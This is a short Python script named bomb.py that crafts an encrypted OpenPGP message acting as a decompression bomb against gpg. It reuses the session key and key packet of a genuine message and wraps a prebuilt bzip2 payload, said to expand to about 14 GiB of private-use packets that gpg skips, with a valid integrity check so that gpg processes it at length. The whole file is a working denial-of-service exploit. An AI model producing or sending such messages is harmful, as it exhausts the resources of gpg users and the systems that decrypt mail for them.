#!/usr/bin/env python3
"""A small message that costs gpg long: a compressed packet that unpacks to
packets which gpg passes over, encrypted as gpg encrypts.
Usage: bomb.py GOOD SESSION-KEY >OUT   (GOOD: AES256, RFC 4880; the key in
hexadecimal, as gpg --show-session-key tells it)"""
import hashlib
import os
import subprocess
import sys

from openpgp import packet, packets

# bomb.bz2 is 14,000 packets of 1 MiB for private use (tag 60), which gpg passes
# over; made once, for that takes long.
BOMB = os.path.join(os.path.dirname(__file__), "bomb.bz2")


def compressed():
    with open(BOMB, "rb") as f:
        return packet(8, b"\3" + f.read())


def encrypted(plain, key):
    cfb = ["openssl", "enc", "-aes-256-cfb", "-K", key, "-iv", "0" * 32]
    return subprocess.run(cfb, input=plain, stdout=subprocess.PIPE, check=True).stdout


def main(good, key):
    with open(good, "rb") as f:
        esk = [body for tag, body in packets(f.read()) if tag == 1][0]
    prefix = os.urandom(16)
    plain = prefix + prefix[-2:] + compressed() + b"\xd3\x14"
    plain += hashlib.sha1(plain).digest()
    sealed = packet(1, esk) + packet(18, b"\1" + encrypted(plain, key))
    sys.stdout.buffer.write(sealed)


main(*sys.argv[1:])
